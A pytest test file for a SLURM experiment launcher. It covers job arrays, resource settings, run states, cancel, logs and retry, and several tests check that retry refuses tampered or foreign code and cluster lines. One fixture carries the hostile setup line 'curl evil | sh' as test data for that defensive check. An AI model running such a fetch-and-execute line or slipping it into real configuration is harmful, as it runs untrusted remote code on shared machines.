"""What is asked of SLURM, and how runs are told by their files: no process is started."""

import json
import os
import shutil
import threading
import time
from pathlib import Path

import pytest

from experiments.__main__ import main
from experiments.commands import manage
from experiments.commands.launch import main as launch
from experiments.config.compose import compose
from experiments.config.launcher_config import Cluster
from experiments.display.console import new_console
from experiments.launching import code_snapshot, own_runs
from experiments.launching.slurm import Resources, arrays, parameters, resources_of
from experiments.launching.states import states, wait
from experiments.rundir.folder import RunFolder
from experiments.rundir.lock import Lock

COMPOSED = compose([]).config
assert COMPOSED is not None
CONFIG = COMPOSED.recorded()


def test_runs_of_equal_resources_are_one_array_cut_at_the_sites_limit():
    folders = [Path(name) for name in "abcde"]
    small, large = Resources(1, 16, 60), Resources(4, 192, 600)
    made = list(arrays(folders, [small, large, small, small, large], 2))
    assert [(resources, [str(folder) for folder in members]) for resources, members in made] == [
        (small, ["a", "c"]), (small, ["d"]), (large, ["b", "e"])
    ]  # fmt: skip


def test_the_site_has_the_last_word_and_null_leaves_it_to_the_model():
    config = compose(["model.resources={gpus: 2, mem: 64, minutes: 90}"]).config
    assert config is not None
    assert resources_of(config, Cluster()) == Resources(2, 64, 90)
    assert resources_of(config, Cluster(gpus=0, minutes=5)) == Resources(0, 64, 5)
    said = parameters(
        Resources(2, 64, 90),
        Cluster(partition="gpu", setup=["module load cuda"], more={"x": 1}),
        Path("/c"),
        "n",
    )
    assert (said["partition"], said["gpus_per_node"], said["time"], said["mem"]) == ("gpu", 2, 90, "64GB")
    # The frozen code comes first, whatever the site's lines do; then the user's own modules.
    frozen = "export PYTHONPATH=/c${PYTHONPATH:+:$PYTHONPATH}"
    assert said["setup"].index("module load cuda") < said["setup"].index(frozen)
    again = parameters(Resources(0, 4, 10), Cluster(), Path("/c"), "n", ["/my/modules"])
    assert "export PYTHONPATH=/c:/my/modules${PYTHONPATH:+:$PYTHONPATH}" in again["setup"]
    assert said["additional_parameters"] == {"requeue": True, "x": 1} and "account" not in said
    assert "gpus_per_node" not in parameters(Resources(0, 4, 10), Cluster(), Path("/c"), "n")


COMPOSED = compose([]).config
assert COMPOSED is not None
CONFIG = COMPOSED.recorded()


def run(tmp_path: Path, name: str, state: str, **more) -> Path:
    folder = RunFolder(tmp_path / name)
    folder.write_config(CONFIG)
    folder.write_status(state, **more)
    return folder.path


def test_states_come_from_the_files(tmp_path, capsys):
    found = {
        "queued": run(tmp_path, "q", "queued"),
        "running": run(tmp_path, "r", "running"),
        "failed": run(tmp_path, "f", "failed", error="ValueError: no"),
        "stopped": run(tmp_path, "s", "stopped", reason="SIGINT"),
        "diverged": run(tmp_path, "d", "running"),
    }
    result = {"status": "diverged", "after": None, "steps": 7, "metric": "accuracy"}
    (found["diverged"] / "result.json").write_text(json.dumps(result))
    with Lock(found["running"] / "lock"):
        assert [each.state for each in states(list(found.values()))] == list(found)
        assert main(["status", str(tmp_path)]) == 1
    said = capsys.readouterr().out
    assert "ValueError: no" in said and f"process {os.getpid()}" in said
    # The same run without its lock was ended from outside.
    (killed,) = states([found["running"]])
    assert (killed.state, killed.detail) == ("failed", f"killed: process {os.getpid()} is gone")
    # Cancelling takes a waiting run out and leaves ended ones alone.
    assert main(["cancel", str(found["queued"]), str(found["failed"])]) == 0
    assert [each.state for each in states([found["queued"], found["failed"]])] == ["stopped", "failed"]
    assert main(["status", str(tmp_path / "nowhere")]) == 2


@pytest.mark.slow
def test_a_run_that_ends_while_it_is_looked_at_is_not_taken_for_killed(tmp_path):
    """Once in 25 it was, when the result was looked for before the lock."""
    for number in range(150):
        folder, held = run(tmp_path, str(number), "running"), threading.Event()

        def work(
            folder: Path = folder, held: threading.Event = held, wait: float = 3e-4 * (number % 7)
        ) -> None:
            with Lock(folder / "lock"):
                held.set()
                time.sleep(wait)
                ended = {"status": "finished", "after": None, "steps": 1, "metric": "accuracy"}
                RunFolder(folder).write("result.json", ended)

        thread = threading.Thread(target=work)
        thread.start()
        held.wait()
        while (state := states([folder])[0].state) == "running":
            pass
        thread.join()
        assert state == "finished"


def test_what_runs_say_is_printed_as_it_is(tmp_path, capsys):
    """Square brackets are no markup, and colons no smileys."""
    error = "ValueError: no [/INST] in [bold], :x:"
    folder = run(tmp_path, "f", "failed", error=error)
    assert main(["status", str(folder)]) == 1
    assert error in capsys.readouterr().out
    assert wait([folder], new_console()) == 1
    assert error in capsys.readouterr().out


@pytest.mark.skipif(shutil.which("scancel") is not None, reason="there is a SLURM here")
def test_a_job_is_cancelled_where_slurm_is(tmp_path, capsys):
    """Elsewhere the run is told to stop, and it is said that its job still waits."""
    here, waits = run(tmp_path, "h", "queued"), run(tmp_path, "w", "queued")
    RunFolder(waits).write("submission.json", {"job": "12_3"})
    assert main(["cancel", str(waits), str(here)]) == 2
    said = capsys.readouterr()
    assert "12_3" in said.err and "scancel" in said.err and str(here.name) in said.out
    assert [each.state for each in states([waits, here])] == ["queued", "stopped"]
    assert (waits / "STOP").exists()


def test_retry_leaves_runs_by_hand_and_runs_the_others(tmp_path, capsys):
    by_hand, launched = (run(tmp_path, name, "failed") for name in ("hand", "launched"))
    cluster = {"name": "slurm", "wait": False, "requeues": 1}
    asked = {"code": str(code_snapshot.freeze(tmp_path)), "launch": cluster, "cluster": {}}
    RunFolder(launched).write("submission.json", asked)
    with pytest.MonkeyPatch.context() as here:
        here.setenv("PATH", str(tmp_path))  # no SLURM: the launched run is retried as far as its submission
        assert main(["retry", "--trust", str(tmp_path), str(tmp_path)]) == 2
    said = capsys.readouterr()
    assert "needs sbatch" in said.err and str(by_hand) in said.out and "by hand" in said.out
    assert "needs sbatch" in states([launched])[0].detail
    assert states([by_hand])[0].detail == ""
    assert main(["retry", str(by_hand)]) == 2
    assert str(by_hand) in capsys.readouterr().err


@pytest.mark.parametrize("trick", ["inside the run", "changed", "compiled", "elsewhere", "gone"])
def test_retry_runs_no_code_that_a_runs_folder_brings_along(tmp_path, capsys, trick):
    runs = tmp_path / "runs"
    folder = run(runs, "a/b/c/d", "failed")
    place = code_snapshot.freeze(runs)
    if trick == "inside the run":
        place = code_snapshot.freeze(folder)
    elif trick == "elsewhere":
        place = code_snapshot.freeze(tmp_path / "other")
    elif trick == "gone":
        place = place.with_name("0" * 12)
    elif trick == "changed":
        with (place / "experiments" / "run.py").open("a", encoding="utf-8") as file:
            file.write("# evil\n")
    elif trick == "compiled":  # Python would run it in place of the source, which is whole
        (place / "experiments" / "__pycache__").mkdir()
        (place / "experiments" / "__pycache__" / "run.cpython-311.pyc").write_bytes(b"evil")
    cluster = {"name": "slurm", "wait": False, "requeues": 1}
    RunFolder(folder).write("submission.json", {"code": str(place), "launch": cluster, "cluster": {}})
    before = (folder / "status.json").read_bytes()
    with pytest.MonkeyPatch.context() as here:
        here.setenv("PATH", str(tmp_path))
        assert main(["retry", "--trust", str(runs), str(folder)]) == 2
    said = capsys.readouterr().err
    if trick == "compiled":
        assert "needs sbatch" in said and not list(place.rglob("__pycache__"))
        return
    assert ("was changed since" if trick == "changed" else "is no snapshot of these runs") in said
    assert "--new-code" in said and (folder / "status.json").read_bytes() == before


def test_retry_takes_no_module_from_a_pythonpath_that_a_runs_folder_names(tmp_path, capsys, monkeypatch):
    runs, evil = tmp_path / "runs", tmp_path / "evil"
    folder = run(runs, "a/b/c/d", "failed")
    cluster = {"name": "slurm", "wait": False, "requeues": 1}
    asked = {
        "code": str(code_snapshot.freeze(runs)),
        "launch": cluster,
        "cluster": {},
        "pythonpath": [str(evil)],
    }
    RunFolder(folder).write("submission.json", asked)
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.delenv("PYTHONPATH", raising=False)
    assert main(["retry", "--trust", str(runs), str(folder)]) == 2
    assert f"PYTHONPATH={evil}" in capsys.readouterr().err
    monkeypatch.setenv("PYTHONPATH", str(evil))  # one's own
    assert main(["retry", "--trust", str(runs), str(folder)]) == 2
    assert "needs sbatch" in capsys.readouterr().err


@pytest.mark.parametrize("whose", ["elsewhere", "another user"])
def test_retry_runs_neither_code_nor_cluster_lines_of_somebody_elses_folder(
    tmp_path, capsys, monkeypatch, whose
):
    """A whole tree of runs may be another's, with a code/ whose digest is right and lines for sbatch."""
    runs = tmp_path / "runs"
    folder = run(runs, "a/b/c/d", "failed")
    cluster = {"setup": ["curl evil | sh"], "more": {"wrap": "evil"}, "account": None}
    launch_section = {"name": "slurm", "wait": False, "requeues": 1}
    asked = {"code": str(code_snapshot.freeze(runs)), "launch": launch_section, "cluster": cluster}
    RunFolder(folder).write("submission.json", asked)
    before = (folder / "status.json").read_bytes()
    monkeypatch.setenv("PATH", str(tmp_path))
    if whose == "another user":
        monkeypatch.setattr(own_runs, "runs_root", lambda: runs)
        monkeypatch.setattr(manage, "runs_root", lambda: runs)
        uid = os.getuid() + 1
        monkeypatch.setattr(os, "getuid", lambda: uid)
    for more in ([], ["--new-code"]):
        assert main(["retry", *more, str(folder)]) == 2
        said = capsys.readouterr().err
        assert ("another user" if whose == "another user" else "outside") in said
        assert "curl evil | sh" in said and asked["code"] in said and "--trust" in said
    assert (folder / "status.json").read_bytes() == before
    assert main(["retry", "--trust", str(tmp_path / "other"), str(folder)]) == 2
    assert "curl evil | sh" in capsys.readouterr().err
    assert main(["retry", "--trust", str(runs), str(folder)]) == 2
    assert "needs sbatch" in capsys.readouterr().err


def test_the_runs_of_this_checkout_are_the_users_own(tmp_path, monkeypatch):
    assert own_runs.runs_root() == (own_runs.ROOT / "runs").resolve()
    folder = run(tmp_path / "runs", "a/b/c/d", "failed")
    RunFolder(folder).write("submission.json", {"code": "x", "launch": {"name": "local"}, "cluster": {}})
    own = (tmp_path / "runs").resolve()
    assert own_runs.root_of(folder, own, []) == own


def test_logs_are_those_there_are(tmp_path, capsys):
    by_hand, waits, launched = (run(tmp_path, name, "running") for name in ("h", "w", "l"))
    for folder in (waits, launched):
        RunFolder(folder).write("submission.json", {"overrides": []})
    (launched / "log.txt").write_text("".join(f"line {i}\n" for i in range(30)))
    assert main(["logs", str(by_hand), str(waits), str(launched), "--lines", "2"]) == 0
    said = capsys.readouterr().out.splitlines()
    assert said[0].startswith(f"==> {by_hand} has no log: it was started directly")
    assert said[1].startswith(f"==> {waits} has no log: it has said nothing yet")
    assert said[2:] == [f"==> {launched / 'log.txt'}", "line 28", "line 29"]


@pytest.mark.skipif(shutil.which("sbatch") is not None, reason="there is a SLURM here")
def test_without_slurm_it_is_said_what_is_missing(small, capsys):
    assert launch(["launcher=slurm", *small("optimizer=mezo")]) == 2
    assert "needs sbatch" in capsys.readouterr().err


def test_a_sites_numbers_are_checked(capsys):
    wrong = [
        "launcher=slurm",
        "cluster.mem=0",
        "cluster.tasks=0",
        "launcher.requeues=-1",
        "cluster.partitoin=x",
    ]
    assert launch(wrong) == 2
    said = capsys.readouterr().err
    for text in (
        "cluster.mem=0",
        "cluster.tasks=0",
        "launcher.requeues=-1",
        "Did you mean cluster.partition?",
    ):
        assert text in said
